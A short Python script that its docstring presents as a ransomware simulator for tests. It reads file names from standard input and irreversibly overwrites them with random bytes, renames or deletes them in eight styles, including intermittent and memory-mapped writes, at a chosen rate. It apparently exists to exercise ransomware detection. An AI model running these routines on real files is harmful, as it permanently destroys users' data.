"""Ransomware of several styles, for tests: attack.py STYLE FILES-PER-SECOND < names. Prints how many files it got through.

attack.py without arguments prints the styles."""
import mmap
import os
import sys
import time


def noise(length):
    return os.urandom(length)


def overwrite(path):
    size = os.path.getsize(path)
    with open(path, "r+b") as file:
        file.write(noise(size))


def overwrite_rename(path):
    overwrite(path)
    os.rename(path, path + ".locked")


def copy_delete(path):
    with open(path, "rb") as file:
        size = len(file.read())
    with open(path + ".enc", "wb") as file:
        file.write(noise(size))
    os.unlink(path)


def replace(path):
    with open(path + ".tmp", "wb") as file:
        file.write(noise(os.path.getsize(path)))
    os.rename(path + ".tmp", path)


def truncate(path):
    size = os.path.getsize(path)
    with open(path, "wb") as file:
        file.write(noise(size))


def mapped(path):
    with open(path, "r+b") as file:
        with mmap.mmap(file.fileno(), 0) as memory:
            memory[:] = noise(len(memory))
            memory.flush()


def intermittent(path):
    size = os.path.getsize(path)
    with open(path, "r+b") as file:
        for block in range(0, size, 8192):
            file.seek(block)
            file.write(noise(min(4096, size - block)))


def delete(path):
    os.unlink(path)


STYLES = {
    "overwrite": overwrite,
    "overwrite-rename": overwrite_rename,
    "copy-delete": copy_delete,
    "replace": replace,
    "truncate": truncate,
    "mapped": mapped,
    "intermittent": intermittent,
    "delete": delete,
}

if len(sys.argv) == 1:
    print("\n".join(STYLES))
    sys.exit()
style, rate = sys.argv[1], float(sys.argv[2])
done, began = 0, time.monotonic()
for name in sys.stdin.read().splitlines():
    if rate:
        time.sleep(max(0.0, began + done / rate - time.monotonic()))
    try:
        STYLES[style](name)
    except OSError as error:
        print(f"{done} files, then: {error.strerror}")
        break
    done += 1
else:
    print(f"{done} files, and nothing stopped it")
